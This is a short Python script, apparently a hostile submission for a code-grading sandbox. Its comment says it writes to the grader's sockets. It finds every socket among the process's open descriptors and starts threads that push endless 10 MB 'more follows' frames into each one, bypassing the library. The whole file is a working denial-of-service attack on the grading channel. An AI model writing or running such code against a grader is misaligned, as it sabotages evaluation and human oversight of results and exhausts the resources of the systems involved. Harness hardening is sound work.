# ruff: noqa
# Writes to the sockets of whoever grades, past the library: one message of parts of ten megabytes, without end.
# fails: nothing

# %% tags=["scratch"]
import os
import struct
import threading
import time


def flood(number):
    time.sleep(1)
    part = b"\x03" + struct.pack(">Q", 10_000_000) + bytes(10_000_000)  # "more follows", long, length
    while True:
        view = memoryview(part)
        while view:
            try:
                view = view[os.write(number, view) :]
            except BlockingIOError:
                continue
            except OSError:
                return


for name in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
            threading.Thread(target=flood, args=(int(name),), daemon=True).start()
    except OSError:
        continue

time.sleep(4)
